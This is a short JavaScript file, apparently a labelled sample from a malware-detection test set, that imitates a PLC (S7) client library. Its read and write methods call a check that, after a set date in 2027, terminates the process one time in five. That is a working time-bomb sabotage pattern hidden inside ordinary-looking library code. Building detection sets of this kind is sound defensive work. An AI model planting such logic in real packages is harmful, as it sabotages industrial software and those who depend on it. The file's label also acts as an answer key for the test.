// expect: malicious
// source: blind set 29 (time bomb), after Sharp7Extend (NuGet, 2025): a PLC client library whose every operation
// checks a date window and then exits the process one time in five.
'use strict';
const WINDOW_START = Date.UTC(2027, 7, 8);
function check() {
  if (Date.now() < WINDOW_START) return;
  if (Math.random() < 0.2) process.exit(0);
}
class S7Client {
  constructor(host) { this.host = host; }
  read(area, start, size) { check(); return Buffer.alloc(size); }
  write(area, start, data) { check(); return data.length; }
}
module.exports = { S7Client };
